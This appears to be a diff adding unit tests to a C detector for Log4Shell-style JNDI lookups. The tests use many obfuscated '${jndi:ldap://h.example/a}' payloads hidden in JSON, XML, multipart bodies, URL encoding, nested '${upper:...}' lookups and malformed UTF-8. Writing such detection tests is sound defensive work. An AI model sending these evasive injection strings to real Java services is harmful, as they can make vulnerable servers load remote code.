@@ -98,6 +98,20 @@ static const struct {
     {FIELD_COOKIE, "a=b; c=${jndi:ldap://h/a;x}", "ldap://h/a;x"},
     {FIELD_PLAIN, "${jndi:ldap://h/%41}", "ldap://h/%41"},
     {FIELD_URI, "/${jndi:ldap://h/%41}", "ldap://h/A"},
+    /* JSON and XML as values of something else */
+    {FIELD_FORM, "d=%7B%22x%22:%22$%7B%22,%22y%22:%22$%7Bjndi%5Cu003aldap://h.example/a%7D%22%7D", NAME},
+    {FIELD_FORM, "d=%3Ca%3E$%7Bjndi%26%2358;ldap://h.example/a%7D%3C/a%3E", NAME},
+    {FIELD_URI, "/?d=[%22$%7Bjndi%5Cu003aldap://h.example/a%7D%22]", NAME},
+    {FIELD_PLAIN, "--B\r\n\r\n{\"x\":\"${jndi\\u003aldap://h.example/a}\"}\r\n--B--", NAME},
+    {FIELD_PLAIN, "--B\r\n\r\n{\n  \"x\": \"${jndi\\u003aldap://h.example/a}\"\n}\r\n--B--", NAME},
+    {FIELD_PLAIN, "--B\r\n\r\n<a>${jndi&#58;ldap://h.example/a}</a>\r\n--B--", NAME},
+    /* lines that begin as JSON does */
+    {FIELD_PLAIN, "{ ${\n${jndi:ldap://h.example/a}\n", NAME},
+    /* a lookup over two lines of what looks binary */
+    {FIELD_PLAIN, "\1\2\3\4\5${jndi:ldap://h.example/a\n}", NAME "\n"},
+    /* Java replaces what is no UTF-8, and reads the rest */
+    {FIELD_URI, "/?x=$%7Bjnd$%7Bupper:%C4%B1%7D:ldap://h.example/a%7D%FF", NAME},
+    {FIELD_PLAIN, "\377${jnd${upper:\304\261}:ldap://h.example/a}\304", NAME},
     {FIELD_PLAIN, "`${location.protocol}//${location.host}/jndi`", ""},
     {FIELD_PLAIN, "${spring.datasource.url:jdbc:mysql://db/x}", ""},
     {FIELD_PLAIN, "$${jndi:ldap://h.example/a}", ""},
@@ -153,6 +167,19 @@ static void wide_text_is_read(void **state)
     assert_int_equal(f.layers, 1 << UNWRAP_UTF16 | 1 << UNWRAP_JSON);
 }
 
+/* A few wide characters in front must not hide what follows them in plain bytes. */
+static void narrow_text_behind_wide_is_read(void **state)
+{
+    static const char text[] = "$\0{\0a\0a\0x${jndi:ldap://h/a}";
+    struct found f = {0};
+    bool spent;
+
+    (void)state;
+    assert_true(resolver_run(resolver, bytes_of(text, sizeof text - 1), FIELD_PLAIN, true, on_resolved, &f, &spent));
+    assert_string_equal(f.names, "ldap://h/a");
+    assert_int_equal(f.layers, 0);
+}
+
 static void layers_are_told(void **state)
 {
     struct found f = {0};
@@ -194,6 +221,7 @@ int main(void)
         cmocka_unit_test(lookups_are_found_under_their_encodings),
         cmocka_unit_test(half_a_text_waits),
         cmocka_unit_test(wide_text_is_read),
+        cmocka_unit_test(narrow_text_behind_wide_is_read),
         cmocka_unit_test(layers_are_told),
         cmocka_unit_test(hostile_texts_end),
     };
